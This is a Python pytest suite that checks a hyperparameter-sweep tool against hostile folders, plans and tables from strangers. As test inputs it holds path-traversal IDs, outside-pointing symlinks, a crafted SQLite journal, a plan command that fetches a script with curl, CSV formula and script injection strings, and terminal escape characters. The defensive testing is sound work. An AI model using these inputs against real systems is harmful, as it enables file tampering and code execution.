"""Folders, texts and tables from strangers run no code and reach no file outside their folder."""

import contextlib
import gzip
import hashlib
import http.server
import os
import re
import sqlite3
import struct
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from sweep.report.report import write_report
from sweep.tracking.store import read_record
from sweep.trial.files import read_json, write_json
from sweep.trial.folder import SweepFolder
from sweep.trial.status import Cause, State, TrialStatus
from tests.analysis.fake_sweeps import write_fake_sweep
from tests.faults.damage import parameters
from tests.servers import Service, is_healthy

pytestmark = pytest.mark.fault("folder, text or table from a stranger")
IDS = ("../../victim", "/victim", "..", "victim")
LINKS = ("figures", "trials", "trials/ID", "trials/ID/log.txt", "plan.json")
READING = ("status", "report", "clean", "stop", "log")


@pytest.fixture
def stranger(tmp_path):
    write_fake_sweep(tmp_path / "stranger", batches="4,8", seeds=1)
    return SweepFolder(tmp_path / "stranger")


def sweep(*words, folder=None, module="sweep", **environment):
    """Run the command line in a process of its own; return exit code, stdout and stderr."""
    done = subprocess.run(
        [sys.executable, "-P", "-m", module, *map(str, words)],
        cwd=folder,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2]), **environment},
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    return done.returncode, done.stdout, done.stderr


@pytest.mark.parametrize("trial_id", parameters(IDS, IDS[:1]))
def test_an_id_is_no_path(stranger, tmp_path, count, trial_id):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / ".state.json.1.part").touch()
    plan = read_json(stranger.plan_path)
    plan["trials"][0]["id"] = trial_id
    write_json(stranger.plan_path, plan)
    for command in READING:
        code, _, stderr = sweep(command, stranger.path, *(["x"] if command == "log" else []))
        assert code == 2 and stderr.count("\n") == 1, stderr
    assert sweep("clean", stranger.path, "--yes")[0] == 2
    assert (victim / ".state.json.1.part").exists()
    count("refused")


@pytest.mark.parametrize("link", parameters(LINKS, LINKS[:1]))
def test_links_that_leave_the_folder_are_refused(stranger, tmp_path, count, link):
    trial = stranger.trials()[0]
    path = stranger.path / link.replace("ID", trial.id)
    outside = tmp_path / "outside"
    if path.exists():
        path.rename(outside)
    else:
        outside.mkdir()
    path.symlink_to(outside)
    for command in READING:
        code, _, stderr = sweep(command, stranger.path, *([trial.id] if command == "log" else []))
        assert code == 2 and "link" in stderr and stderr.count("\n") == 1, stderr
    code, _, stderr = sweep("run", "quick", "--batches", "4,8", "--out", stranger.path, "--yes")
    assert code == 2 and "link" in stderr
    count("refused")


@pytest.mark.slow
@pytest.mark.parametrize("name", ["lease.json", "log.txt"])
def test_a_worker_writes_through_no_link(stranger, tmp_path, count, name):
    trial, victim = stranger.trials()[0], tmp_path / "victim"
    trial.result_path.unlink()
    victim.write_text("untouched")
    (trial.path / name).unlink(missing_ok=True)
    (trial.path / name).symlink_to(victim)
    code, _, stderr = sweep(trial.path, module="sweep.training")
    assert code == 2 and "link" in stderr and victim.read_text() == "untouched"
    count("refused")


@pytest.mark.slow
def test_a_recorded_database_outside_the_folder_is_not_opened(stranger, tmp_path, count):
    victim = tmp_path / "victim.db"
    sqlite3.connect(victim).close()
    record = read_record(stranger) | {"is_default": False, "tracking_uri": f"sqlite:///{victim}"}
    write_json(stranger.tracking_path, record)
    for command in ("report", "ui"):
        code, _, stderr = sweep(command, stranger.path)
        assert code == 2 and "--tracking-uri" in stderr
    assert victim.read_bytes() == b""
    write_json(stranger.tracking_path, record | {"tracking_uri": 5})
    assert sweep("report", stranger.path)[0] == 2
    count("refused")


@contextlib.contextmanager
def listening_server():
    """Serve HTTP, and yield the address and the headers of the requests that arrive."""
    received = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def answer(self):
            received.append(dict(self.headers))
            self.send_error(500)

        do_GET = do_POST = do_PUT = answer

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", received
        server.shutdown()


def test_a_recorded_server_gets_no_request_unless_the_user_names_it(stranger, count):
    token = {"MLFLOW_TRACKING_TOKEN": "SECRET"}
    words = ("run", "quick", "--batches", "4,8", "--out", stranger.path, "--yes")
    with listening_server() as (uri, received):
        record = {"is_default": False, "tracking_uri": uri, "mirrored_sha256": ""}
        write_json(stranger.tracking_path, record)
        before = {path: path.stat().st_mtime_ns for path in stranger.path.rglob("*")}
        for command in ("report", "ui"):
            code, _, stderr = sweep(command, stranger.path, **token)
            assert code == 2 and f"--tracking-uri {uri}" in stderr and stderr.count("\n") == 1
        assert {path: path.stat().st_mtime_ns for path in stranger.path.rglob("*")} == before
        trial = stranger.trials()[0]
        for command in ("status", "log", "clean", "stop"):
            sweep(command, stranger.path, *([trial.id] if command == "log" else []), **token)
        trial.result_path.unlink()
        code, _, stderr = sweep(*words, "--device", "cpu", **token)
        assert code == 2, stderr
        assert received == []
        code, _, stderr = sweep("report", stranger.path, "--tracking-uri", uri, **token)
        assert code == 0 and f"--tracking-uri {uri}" in stderr  # the command that completes it
        assert received[0]["Authorization"] == "Bearer SECRET"
        received.clear()
        assert sweep("report", stranger.path, MLFLOW_TRACKING_URI=f"{uri}/", **token)[0] == 0
        assert received
    count("refused")


def test_the_ui_serves_no_database_with_artifacts_on_a_server(stranger, count):
    assert sweep("report", stranger.path)[0] == 0
    path = stranger.path / "mlflow.db"
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute("UPDATE runs SET artifact_uri = 'mlflow-artifacts://host:80/1'")
        connection.commit()
    code, _, stderr = sweep("ui", stranger.path)
    assert code == 2 and "mlflow-artifacts" in stderr and stderr.count("\n") == 1
    count("refused")


@pytest.mark.slow
def test_a_database_of_artifacts_elsewhere_is_set_aside(stranger, tmp_path, count):
    assert sweep("report", stranger.path)[0] == 0
    victim = tmp_path / "victim"
    victim.mkdir()
    with contextlib.closing(sqlite3.connect(stranger.path / "mlflow.db")) as connection:
        connection.execute(
            f"UPDATE runs SET status = 'RUNNING', artifact_uri = '{victim.as_uri()}'"
        )
        connection.commit()
    stranger.tracking_path.unlink()
    code, _, stderr = sweep("report", stranger.path)
    assert code == 0 and "artifacts of another folder" in stderr and not [*victim.iterdir()]
    assert (stranger.path / "mlflow-old-1.db").exists()
    count("recovered")


def test_a_journal_that_names_a_file_is_refused(stranger, tmp_path, count):
    assert sweep("report", stranger.path)[0] == 0
    victim = tmp_path / "victim"
    victim.write_text("untouched")
    database, name = stranger.path / "mlflow.db", bytes(victim)
    page = int.from_bytes(database.read_bytes()[16:18], "big")
    magic = bytes.fromhex("d9d505f920a163d7")
    header = struct.pack(">8s5I", magic, 0, 1, database.stat().st_size // page, 512, page)
    end = struct.pack(">2I", len(name), sum(name)) + magic
    journal = header.ljust(512, b"\0") + struct.pack(">I", (1 << 30) // page + 1) + name + end
    database.with_name("mlflow.db-journal").write_bytes(journal)
    stranger.tracking_path.unlink()
    for words in (["report", stranger.path], ["report", "--from-mlflow", f"sqlite:///{database}"]):
        code, _, stderr = (
            sweep(*words, "--experiment", "quick") if len(words) > 2 else sweep(*words)
        )
        assert code == 2 and "journal" in stderr and victim.read_text() == "untouched", stderr
    count("refused")


def test_the_commands_of_a_plan_are_sweeps(stranger, count):
    plan = read_json(stranger.plan_path)
    plan["commands"] = [["curl", "-sL", "http://example.org/x.sh"]]
    write_json(stranger.plan_path, plan)
    code, _, stderr = sweep("report", stranger.path)
    assert code == 2 and "must begin with sweep run" in stderr
    count("refused")


def test_tables_have_bounds(tmp_path, count):
    wide, packed, long = (tmp_path / name for name in ("wide.csv", "packed.csv.gz", "long.csv"))
    wide.write_text("," * 100_000)
    packed.write_bytes(gzip.compress(b"stage,policy\n"))
    columns = "stage,policy,batch_size,seed,learning_rate,state,final_valid_loss,seconds_training\n"
    long.write_text(columns + "".join(f"report,fixed,{n},0,1,COMPLETE,1,1\n" for n in range(1, 99)))
    for path in (wide, packed, long):
        code, _, stderr = sweep("answer", path)
        assert code == 2 and stderr.count("\n") == 1, stderr
    many = tmp_path / "many.md"
    many.write_text("a|b\n-|-\n" * 3000)  # minutes if every table contained the following ones
    assert sweep("audit", many)[0] == 2
    count("refused", 4)


HOSTILE = "=cmd() <script>alert(1)</script> ![x](../../secret.png) \x1b[2J\u202e | `a`\n# heading"


def test_texts_are_escaped_on_the_page_in_the_table_and_on_the_terminal(stranger, tmp_path, count):
    (tmp_path / "secret.png").write_bytes(b"SECRET")
    trial = stranger.trials()[0]
    trial.result_path.unlink()
    trial.write_status(TrialStatus(State.FAILED, Cause.ERROR, HOSTILE, 1, 1))
    other = stranger.trials()[1]
    other.result_path.unlink()
    other.write_status(TrialStatus(State.FAILED, Cause.ERROR, "x\r=cmd()\nAll files", 1, 1))
    write_report(stranger.path)
    page = (stranger.path / "report.html").read_text()
    text = (stranger.path / "report.md").read_text()
    page = page[page.index("<main>") : page.index("</main>")]
    assert "<script" not in page and "U0VDUkVU" not in page and "\n# heading" not in text
    table = (stranger.path / "trials.csv").read_text()
    assert re.search(r'[,"\r]=cmd', table) is None and "'=cmd" in table
    _, stdout, _ = sweep("status", stranger.path)
    assert "=cmd" in stdout and "\nAll files" not in stdout
    worker = sweep(trial.path, module="sweep.training")[1]
    words = ("plan", "quadratic", "--workload", "mod\x1b[2J:obj")
    for output in (page, text, stdout, worker, *sweep(*words)[1:]):
        assert "\x1b" not in output and "\u202e" not in output
    count("recovered")


@pytest.mark.slow
@pytest.mark.parametrize(
    "executor",
    [
        (),
        pytest.param(("--executor", "slurm", "--slurm", "cluster=local"), marks=pytest.mark.slurm),
    ],
    ids=["local", "slurm"],
)
def test_the_current_folder_hides_no_library(tmp_path, count, executor):
    for name in ("json", "torch", "numpy", "sweep", "pickle", "random", "tomllib", "mlflow"):
        (tmp_path / f"{name}.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'a')")
    words = ("quadratic", "--batches", "4", "--budget", "400", "--device", "cpu", "--out", "s")
    assert sweep("run", *words, "--yes", *executor, folder=tmp_path)[0] == 0
    server = Service(tmp_path)
    command = [sys.executable, "-P", "-m", "sweep", "ui", "s", "--port", str(server.port)]
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
    try:
        server.launch(command, lambda: is_healthy(server.uri), cwd=tmp_path, env=environment)
    finally:
        if server.process is not None:  # SIGKILL would leave MLflow's server
            server.process.terminate()
            server.process.wait()
    assert not (tmp_path / "ran").exists()
    count("recovered")


MODULE = """
from pathlib import Path
from sweep.workloads.quadratic import NoisyQuadratic as Own
Path(__file__).with_name("imported").touch()
"""


FAILING = """
KEY = "SEC" + "RET"
from sweep.workloads.quadratic import NoisyQuadratic
class Own(NoisyQuadratic):
    def loss_sum(self, model, batch):
        if batch[0][0] > 0:
            raise ValueError(f"no answer from http://user:{KEY}@host/?token={KEY}")
        return super().loss_sum(model, batch)
"""


@pytest.mark.slow
def test_code_runs_only_after_a_notice_and_is_not_imported_to_read(tmp_path, count):
    (tmp_path / "own.py").write_text(MODULE)
    words = ("quadratic", "--workload", "own:Own", "--batches", "4", "--budget", "400")
    words += ("--device", "cpu", "--out", "s")
    code, _, stderr = sweep("run", *words, "--no-user-code", folder=tmp_path)
    assert code == 2 and "own:Own" in stderr and not (tmp_path / "imported").exists()
    code, _, stderr = sweep("run", *words, "--yes", folder=tmp_path)
    assert code == 0 and stderr.startswith("This runs your code: own:Own (") and "sha256" in stderr
    (tmp_path / "imported").unlink()
    for command in READING:
        trial = SweepFolder(tmp_path / "s").trials()[0].id
        code, *_ = sweep(command, "s", *([trial] if command == "log" else []), folder=tmp_path)
        assert code == 0
    assert not (tmp_path / "imported").exists()
    count("recovered")


def test_the_notice_names_the_file_that_runs(tmp_path, count):
    (tmp_path / "own").mkdir()  # a package without __init__.py
    (tmp_path / "own" / "mod.py").write_text(MODULE)
    (tmp_path / "mod.py").write_text("Own = None")
    digest = hashlib.sha256(MODULE.encode()).hexdigest()[:12]
    words = ("quadratic", "--workload", "own.mod:Own", "--no-user-code")
    for command in (words, words[:-1]):
        stderr = sweep("plan", *command, "--device", "cpu", folder=tmp_path)[2]
    assert f"mod.py, sha256 {digest}" in stderr and (tmp_path / "own" / "imported").exists()
    count("recovered")


@pytest.mark.slow
def test_no_secret_in_an_exception_of_user_code_is_kept(tmp_path, count):
    (tmp_path / "own.py").write_text(FAILING)
    words = ("quadratic", "--workload", "own:Own", "--batches", "4", "--budget", "400")
    code, stdout, stderr = sweep("run", *words, "--out", "s", "--yes", folder=tmp_path)
    assert code == 1
    written = b"".join(path.read_bytes() for path in (tmp_path / "s").rglob("*") if path.is_file())
    assert b"http://host" in written
    assert b"SECRET" not in written and "SECRET" not in stdout + stderr
    count("recovered")


@pytest.mark.slow
@pytest.mark.parametrize(
    "address", ["http://u:SECRET@{}", "http://SECRET@{}/", "http://{}/?jwt=SECRET#x=SECRET"]
)
def test_no_secret_of_an_address_is_kept_or_shown(tmp_path, count, address):
    uri = address.format("127.0.0.1:9")
    words = ("quadratic", "--batches", "4", "--budget", "400", "--device", "cpu", "--out", "s")
    code, stdout, stderr = sweep("run", *words, "--yes", "--tracking-uri", uri, folder=tmp_path)
    assert code == 0 and "lacks" in stderr
    written = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
    assert b"SECRET" not in written and "SECRET" not in stdout + stderr
    count("recovered")
